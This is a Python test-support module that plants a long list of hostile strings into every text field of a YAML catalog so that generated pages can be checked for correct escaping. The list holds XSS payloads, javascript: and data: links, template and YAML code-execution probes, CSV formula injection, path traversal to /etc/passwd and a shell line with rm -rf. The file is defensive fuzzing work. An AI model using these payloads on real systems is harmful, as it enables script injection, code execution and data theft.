"""Hostile texts, and a copy of a catalog that holds them in every text field.

A text ends in a mark of its own (`q12z`), so that a page can be asked whether what stands before
the mark is exactly what was written.
"""

from __future__ import annotations

import json
from collections import Counter, defaultdict
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, get_args, get_origin

from pydantic import AfterValidator, BaseModel
from pydantic.fields import FieldInfo

from generator.layout import identify
from generator.model.kecualian import ButirKecualian
from generator.model.nilai import _paragraph, _text
from generator.model.skema import BatasNilai, SyaratPenilaian
from generator.rules.acuan import REFERENCES
from generator.shape import MODELS
from generator.source import Path as Steps
from generator.source import Tree
from generator.yamltext import read

HOSTILE: tuple[str, ...] = (
    # scripts
    "<script>jahat()</script>",
    "</script><script>jahat()</script>",
    "<ScRiPt src=https://jahat.example/x.js></sCrIpT>",
    "<script>alert(1)</script",
    "<scr<script>ipt>jahat()</scr</script>ipt>",
    "<svg onload=jahat()>",
    "<svg><script>jahat()</script></svg>",
    "<svg><style>{font:'</style><img src=x onerror=jahat()>'}</style>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=jahat()></style></math>",
    # elements with handlers
    "<img src=x onerror=jahat()>",
    "<img src='https://jahat.example/pixel.png'>",
    '"><img src=x onerror="jahat()">',
    "'><img src=x onerror='jahat()'>",
    "<body onload=jahat()>",
    "<details open ontoggle=jahat()>buka",
    "<input autofocus onfocus=jahat()>",
    "<marquee onstart=jahat()>jalan</marquee>",
    "<video><source onerror=jahat()></video>",
    "<a href=javascript:jahat()>klik</a>",
    "<iframe src=javascript:jahat()></iframe>",
    "<object data=javascript:jahat()></object>",
    "<embed src=data:text/html,x>",
    "<form action=https://jahat.example><button>Kirim</button></form>",
    "<meta http-equiv=refresh content='0;url=https://jahat.example/'>",
    "<base href=https://jahat.example/>",
    "<link rel=stylesheet href=https://jahat.example/x.css>",
    "<style>body{display:none}</style>",
    "<plaintext>",
    "<textarea>",
    "<title>Judul lain</title>",
    "<!-- buka komentar",
    "--> tutup komentar",
    "<!DOCTYPE html><html><body>",
    "<![CDATA[ isi ]]>",
    "<?php jahat(); ?>",
    "</div></main></body></html>",
    "</td></tr></table><p>keluar dari tabel",
    "</title></head><body>",
    "<b>tebal</b> <i>miring</i> <u>garis</u>",
    # attributes
    '" onmouseover="jahat()',
    "' onmouseover='jahat()",
    '" style="position:fixed;inset:0" x="',
    "` onclick=`jahat()`",
    '"/><g onclick="jahat()"/>',
    # links
    "[klik](javascript:jahat())",
    "[klik](data:text/html;base64,PHNjcmlwdD4=)",
    "![gambar](https://jahat.example/x.png)",
    "<https://jahat.example/>",
    "javascript:jahat()",
    "data:text/html,<script>jahat()</script>",
    "https://jahat.example/?a=1&b=2#c",
    "[acuan]: https://jahat.example/ 'judul'",
    "[teks][acuan] dan [^1] catatan kaki",
    # Markdown
    "# Judul besar",
    "**tebal** _miring_ ~~coret~~ ==sorot== ^atas^ ~bawah~",
    "`kode` ``dua ` tanda``",
    "```js jahat() ```",
    "> kutipan",
    "- butir daftar",
    "1. butir bernomor",
    "* * *",
    "| a | b | c |",
    "!!! warning Peringatan palsu",
    "??? note Lipatan",
    "{: onclick='jahat()' .kelas #id }",
    "{#id .kelas data-x=1}",
    ":material-close: :smile: (c) (tm) 1/2 -> c/o",
    "*[HTML]: singkatan",
    "Term : definisi \\* \\_ \\` \\<",
    "++sisip++ [[wikilink]] [TOC] [x]",
    "$x^2$ \\(y\\) $$z$$",
    "<div markdown=1>**tebal**</div>",
    # templates and front matter
    "{{ config.site_name }} {{ 7*7 }}",
    "{% for x in [1] %}satu{% endfor %} {# komentar #}",
    "{% raw %}{{ x }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(nama)s %s %d {0} {nama!r} {berkas}",
    "--- title: judul lain ---",
    "title: lain, template: main.html",
    "!!python/object/apply:os.system ['jahat']",
    "&jangkar *rujukan !tag <<: gabung",
    # entities and escapes
    "&lt;script&gt; &amp;lt; &#60;b&#62; &#x3c;i&#x3e;",
    "&nbsp;&copy; &amp; & &&amp;&amp",
    "\\u003cscript\\u003e \\x3c \\074",
    "%3Cscript%3E %00 %0d%0a",
    # data files
    '=HYPERLINK("https://jahat.example","klik")',
    "=1+1;@SUM(A1:A9)",
    "+62|cmd",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'koma, "kutip" ; titik koma \\ garis miring',
    ']}, {"id": "palsu"} </script>',
    "]]></loc></url> & <urlset>",
    # paths
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/absolut/alamat//ganda/?q=#jangkar",
    "file:///etc/passwd",
    "CON .htaccess ~root |tee x; rm -rf x && $(jahat) `jahat`",
    # looks
    "W" * 180,
    "Sangat" + "panjangsekali" * 14,
    "https://contoh.example/" + "a/" * 70,
    "مرحبا بالعالم שלום עולם",
    "خدمة عامة 123 (abc) عربي",
    "漢字かな交じり文と한국어",
    "😀🏽🇮🇩👍🏿 🧾",
    "Z̸̢̛͇a̵̧̼l̶͉̈g̷̱͝o̴̢͑ H̸e̵",
    "ﬁ ligatur, İıŞş ß ẞ ﷽",
    "Teks “kutip” ‘tunggal’ – strip — panjang … 100% ± 5 °C",
    "<",
    "&",
    "' \" ` < > & \\ / % # { } [ ] ( ) | ~ ^ $ * _ - + = : ; , . ! ? @",
)

REFUSED: tuple[str, ...] = tuple(
    chr(each)
    for each in (
        *(0x00, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x7F, 0x80, 0x9F),
        *(0xAD, 0x061C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029),
        *(0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069),
        *(0x206A, 0x206F, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFE, 0xFFFF, 0xE0001, 0xE0041),
    )
)
"""Signs that nobody sees: control, zero width, turned direction, tags."""

_PACKED = 420
"""A text field holds hostile texts up to about this length, one after the other."""
_PLAIN = frozenset((_text, _paragraph))

Field = tuple[type[BaseModel], str]


@dataclass
class Planted:
    """A catalog's files with hostile texts, and the same with harmless ones."""

    files: dict[str, dict[str, Tree]] = field(default_factory=dict)
    clean: dict[str, dict[str, Tree]] = field(default_factory=dict)
    texts: dict[str, str] = field(default_factory=dict)
    """Mark -> the whole text before it."""
    field_of: dict[str, str] = field(default_factory=dict)
    """Mark -> kind of record, model and field."""
    held: dict[Field, set[int]] = field(default_factory=lambda: defaultdict(set))
    """Which hostile texts each field holds."""


def _is_plain(metadata: tuple[Any, ...] | list[Any]) -> bool:
    functions = {each.func for each in metadata if isinstance(each, AfterValidator)}
    return bool(functions & _PLAIN) and not any(hasattr(each, "pattern") for each in metadata)


def _typed_at(annotation: Any, metadata: list[Any]) -> tuple[str, Any]:
    """Tell what an annotation holds: `teks`, `model`, `daftar`, `peta` or `jenis`, and of what."""
    if _is_plain(metadata):
        return "teks", None
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return "model", annotation
    origin = get_origin(annotation)
    arguments = [each for each in get_args(annotation) if each is not type(None)]
    if origin in (tuple, list):
        return "daftar", arguments[0]
    if origin is dict:
        return "peta", arguments[1]
    if hasattr(annotation, "__metadata__"):
        return _typed_at(annotation.__origin__, [*annotation.__metadata__, *metadata])
    if len(arguments) == 1 and type(None) in get_args(annotation):
        return _typed_at(arguments[0], metadata)
    return "jenis", None


def leaves(
    model: type[BaseModel], tree: Mapping[str, Tree], path: Steps = ()
) -> Iterator[tuple[Steps, Field, bool]]:
    """Yield every text of a record with its field, and whether the field takes any words."""
    for name, info in model.model_fields.items():
        if name in tree:
            yield from _leaves(info, (model, name), tree[name], (*path, name))


def _leaves(
    info: FieldInfo, owner: Field, value: Tree, path: Steps
) -> Iterator[tuple[Steps, Field, bool]]:
    todo: list[tuple[Any, list[Any], Tree, Steps]] = [
        (info.annotation, list(info.metadata), value, path)
    ]
    while todo:
        annotation, metadata, value, path = todo.pop(0)
        what, inner = _typed_at(annotation, metadata)
        if isinstance(value, dict) and what == "model":
            yield from leaves(inner, value, path)
        elif isinstance(value, dict) and what == "peta":
            todo += [(inner, [], each, (*path, key)) for key, each in value.items()]
        elif isinstance(value, list) and what == "daftar":
            todo += [(inner, [], each, (*path, index)) for index, each in enumerate(value)]
        elif isinstance(value, str):
            yield path, owner, what == "teks"


REFERRING = frozenset((model, name) for model, name in REFERENCES)
"""Text fields that must name a record; a hostile text there is refused."""


def plant(catalog: Path, turn: int = 0) -> Planted:
    """Return the files of `catalog`, each text replaced; `turn` moves the texts on."""
    out = Planted()
    seen: Counter[Field] = Counter()
    for path in sorted(catalog.rglob("*.yaml")):
        file = path.relative_to(catalog).as_posix()
        identity = identify(file)
        if identity is None:
            continue
        kind = identity.kind
        tree, _, faults = read(path.read_text("utf-8"), file)
        assert faults == []
        clean: dict[str, Tree] = json.loads(json.dumps(tree))
        for steps, owner, plain in list(leaves(MODELS[kind], tree)):
            if not plain or owner in REFERRING or owner in _NAMED or owner[1] in _KEPT:
                continue
            mark = f"q{len(out.texts)}z"
            # Each value goes on where the field's last one stopped.
            start = seen[owner] + STARTS[turn]
            packed, used = _pack(start)
            seen[owner] += used
            out.held[owner].update(each % len(HOSTILE) for each in range(start, start + used))
            text = f"{packed} {mark}"
            _set(tree, steps, text)
            _set(clean, steps, f"Teks biasa {mark}")
            out.texts[mark] = text
            out.field_of[mark] = f"{kind} {owner[0].__name__}.{owner[1]}"
        out.files[file], out.clean[file] = tree, clean
    return out


def unplanted(planted: Planted) -> list[str]:
    """Return the text fields of all models that a planted catalog has no text in."""
    plain: set[Field] = set()
    todo: list[tuple[Field, Any, list[Any]]] = []
    seen: set[type[BaseModel]] = set()
    models: list[type[BaseModel]] = list(MODELS.values())
    for model in models:
        if model in seen:
            continue
        seen.add(model)
        todo += [
            ((model, key), each.annotation, each.metadata)
            for key, each in model.model_fields.items()
        ]
        while todo:
            owner, annotation, metadata = todo.pop()
            what, inner = _typed_at(annotation, metadata)
            if what == "teks":
                plain.add(owner)
            elif what == "model":
                models.append(inner)
            elif what in ("daftar", "peta"):
                todo.append((owner, inner, []))
    left = plain - planted.held.keys() - REFERRING - _NAMED
    return sorted(f"{model.__name__}.{key}" for model, key in left if key not in _KEPT)


_KEPT = frozenset(("ubah", "ditinjau_terhadap", "terkunci", "jumlah_orang"))
"""Text fields with a spelling of their own, judged apart."""
_NAMED: frozenset[Field] = frozenset(
    ((BatasNilai, "label"), (SyaratPenilaian, "kunci"), (ButirKecualian, "rekaman"))
)
"""Labels and files that records name, and key paths, in which a plus parts keys."""


def _pack(start: int) -> tuple[str, int]:
    packed = HOSTILE[start % len(HOSTILE)]
    used = 1
    while used < len(HOSTILE):
        following = HOSTILE[(start + used) % len(HOSTILE)]
        if len(packed) + len(following) + 3 > _PACKED:
            break
        packed += f" · {following}"
        used += 1
    return packed, used


def _starts() -> Iterator[int]:
    at = 0
    while at < len(HOSTILE):
        yield at
        at += _pack(at)[1]


STARTS = tuple(_starts())
"""The text with which each turn begins: after all turns, a field of one value has held them all."""


def _set(tree: Any, path: Steps, value: str) -> None:
    for step in path[:-1]:
        tree = tree[step]
    tree[path[-1]] = value


def as_yaml(tree: Mapping[str, Tree]) -> str:
    """Return a tree as YAML of one spelling: JSON, which quotes everything."""
    return json.dumps(tree, ensure_ascii=False, indent=1) + "\n"
